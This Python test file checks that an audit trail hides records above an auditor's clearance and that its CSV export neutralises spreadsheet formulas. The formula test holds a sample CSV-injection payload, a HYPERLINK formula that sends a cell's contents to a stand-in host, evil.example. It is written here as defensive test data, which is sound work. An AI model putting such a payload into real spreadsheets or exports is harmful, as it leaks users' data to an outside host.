"""The audit trail obeys clearance: about a record above the auditor's clearance it shows that
something happened, not what; and its CSV export cannot carry a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from typing import Any
from urllib.parse import quote

from tests.conftest import Api
from tests.factories import (
    CREATE_ACCOUNT,
    UPDATE_ACCOUNT,
    account_input,
    make_account,
    make_contact,
    new_uscc,
    raw_id,
)

TRAIL = """query($f: AuditTrailFilter) { auditTrail(filter: $f, first: 100) {
  totalCount edges { node { operation actor { username } targetIds fields before after
  redacted } } } }"""
SECRET_NAME, SECRET_CONTACT = "机密研究所", "李秘"


async def _trail(api: Api, target: str) -> list[dict[str, Any]]:
    body = await api.as_user("auditor").data(TRAIL, {"f": {"targetId": target}})
    nodes: list[dict[str, Any]] = [edge["node"] for edge in body["auditTrail"]["edges"]]
    return nodes


async def _export(api: Api, **params: str) -> tuple[str, list[dict[str, str]]]:
    response = await api.client.get("/audit/export.csv", params=params, headers={
        "Authorization": f"Bearer {await api.token('auditor')}"})
    assert response.status_code == 200, response.text
    return response.text, list(csv.DictReader(io.StringIO(response.text)))


async def test_records_about_a_record_above_clearance_are_redacted(api: Api) -> None:
    confidential = await make_account(api, name=SECRET_NAME, annualRevenue="8888.00",
                                      classification="CONFIDENTIAL")
    await make_contact(api, confidential, name=SECRET_CONTACT)
    internal = await make_account(api, name="内部公司")
    target = raw_id(confidential)
    assert (await api.as_user("auditor").data(
        "query($id: ID!) { account(id: $id) { id } }", {"id": confidential})) == {
            "account": None}
    denied, *nodes = await _trail(api, target)
    # The auditor's own lookup above their clearance is on record, in full: it holds no data.
    assert (denied["operation"], denied["actor"], denied["redacted"], denied["after"]) == (
        "denied", {"username": "auditor"}, False,
        {"operation": "account.read", "reason": "outOfScope"})
    assert [(node["operation"], node["actor"], node["redacted"], node["before"], node["after"],
             node["fields"]) for node in nodes] == [
        ("contact.create", {"username": "admin"}, True, None, None, []),
        ("account.create", {"username": "admin"}, True, None, None, [])]
    assert nodes[1]["targetIds"] == [target] and target in nodes[0]["targetIds"]
    assert SECRET_NAME not in str(nodes) and SECRET_CONTACT not in str(nodes)
    [visible] = await _trail(api, raw_id(internal))
    assert (visible["redacted"], visible["after"]["name"]) == (False, "内部公司")
    # admin is cleared for 机密 and sees everything
    admin_view = (await api.data(TRAIL, {"f": {"targetId": target}}))["auditTrail"]["edges"]
    assert [edge["node"]["redacted"] for edge in admin_view] == [False, False, False]


async def test_redaction_follows_the_classification_in_the_ledger(api: Api) -> None:
    account = await make_account(api, name=SECRET_NAME)  # 内部 when created
    await api.data(UPDATE_ACCOUNT, {"input": {"id": account, "classification": "CONFIDENTIAL"}})
    nodes = await _trail(api, raw_id(account))
    assert [(node["operation"], node["redacted"], node["after"]) for node in nodes] == [
        ("account.update", True, None), ("account.create", True, None)]


async def test_the_csv_export_redacts_the_same_records(api: Api) -> None:
    uscc = new_uscc()
    confidential = await make_account(api, name=SECRET_NAME, uscc=uscc,
                                      annualRevenue="8888.00", classification="CONFIDENTIAL")
    await make_contact(api, confidential, name=SECRET_CONTACT)
    await make_account(api, name="内部公司")
    text, rows = await _export(api)
    for secret in (SECRET_NAME, SECRET_CONTACT, uscc, "8888"):
        assert secret not in text
    target = raw_id(confidential)
    about = [row for row in rows if target in row["target_ids"].split()]
    assert [(row["operation"], row["actor"], row["redacted"], row["before"], row["after"],
             row["fields"]) for row in about] == [
        ("contact.create", "admin", "true", "", "", ""),
        ("account.create", "admin", "true", "", "", "")]
    [internal] = [row for row in rows if "内部公司" in row["after"]]
    assert internal["redacted"] == ""


FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+1", "-2+3", "@SUM(A1:A9)")


async def test_the_csv_export_neutralises_formulas(api: Api) -> None:
    for number, reason in enumerate(FORMULAS):
        draft = account_input(name=f"{reason[0]}公司{number}")
        body = await api.post(CREATE_ACCOUNT, {"input": draft},
                              **{"X-Audit-Reason": quote(reason)})
        assert "errors" not in body, body
    text, rows = await _export(api, operation="account.create")
    assert sorted(row["reason"] for row in rows) == sorted(f"'{reason}" for reason in FORMULAS)
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
